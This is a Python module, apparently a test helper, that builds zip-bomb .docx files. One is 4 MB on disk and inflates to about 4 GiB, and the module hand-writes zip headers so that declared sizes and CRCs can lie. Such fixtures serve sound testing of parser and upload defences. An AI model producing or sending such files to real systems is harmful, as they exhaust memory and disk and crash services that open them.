"""Builders for hostile files: zip bombs dressed as .docx, written in a second or less."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_MIB = 1 << 20


def _zero_stream(mib: int) -> bytes:
    """Raw deflate data that inflates to ``mib`` MiB of zero bytes.

    One MiB compressed and fully flushed (which resets the compressor's state) is the
    same bytes every time, so the stream is that block repeated, then an empty final block.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * mib + compressor.flush()


def _zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip of ``(name, stored data, method, crc, declared size)`` members, written by hand
    so that declared sizes can lie."""
    out = bytearray()
    central = bytearray()
    for name, data, method, crc, size in members:
        raw = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0
        )
        out += raw + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            *(0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw)),
            *(0, 0, 0, 0, 0, offset),
        )
        central += raw
    start = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0
    )
    return bytes(out)


def write_docx_bomb(path: Path, mib: int = 4095, *, declared: int | None = None) -> Path:
    """A .docx whose word/document.xml inflates to ``mib`` MiB of zeros (4095 MiB by
    default: 4 MB on disk).

    ``declared`` is the size its zip entry claims (default: the truth). Its CRC is that of
    the declared size's worth of zeros, as a forger who wants the lie to read cleanly
    would write it.
    """
    size = mib * _MIB if declared is None else declared
    crc = zlib.crc32(bytes(size)) if size <= 64 * _MIB else 0
    members = [
        ("[Content_Types].xml", _CONTENT_TYPES, 0, zlib.crc32(_CONTENT_TYPES), len(_CONTENT_TYPES)),
        ("_rels/.rels", _RELS, 0, zlib.crc32(_RELS), len(_RELS)),
        ("word/document.xml", _zero_stream(mib), 8, crc, size),
    ]
    path.write_bytes(_zip(members))
    return path
